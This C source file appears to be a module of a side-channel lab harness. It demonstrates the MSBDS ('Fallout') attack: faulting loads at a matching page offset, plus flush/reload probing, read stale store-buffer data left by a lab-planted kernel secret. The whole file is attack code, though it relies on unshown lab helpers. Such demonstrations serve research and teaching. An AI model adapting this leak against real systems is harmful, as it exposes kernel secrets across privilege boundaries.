/*
 * MSBDS (Fallout): a load that faults gets what an older store left in the store buffer.
 *
 * The kernel stores its secret somewhere. The store buffer is asked by the place within a page alone, so a load that
 * faults and stands at the same place in a page of ours is given the kernel's data.
 */
#define LEAD 2
#include "kernel.h"

static const char ABOUT[] = "ring 0 only";

static const u8 *nowhere;

/* The system calls before the attack. Without the secret in them, what a try shows is the program's own. */
static void try_once(u64 index, int with_secret)
{
    flush_probe();
    lab_call(with_secret ? LAB_STORE : LAB_FLUSH, LINE_OF_SIZE, 0, 0, 0);
    STALE_ACCESS(nowhere + COPY_AT + index);
}

static int prepare(u64 bytes)
{
    (void)bytes;
    nowhere = map(0, PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
    catch_faults();
    return !failed(nowhere);
}

static void attempt(u64 index)
{
    static u64 listened = -1UL;
    if (listened != index) {
        listened = index;
        memset(ignored, 0, sizeof ignored);
        try_once(index, 0);
        reload_probe();
        for (u32 i = 0; i < hit_count; i++)
            ignored[hit[i]] = 1;
        forget_hits();
    }
    try_once(index, 1);
}

static void done(void)
{
    say_value("faults", faults);
}
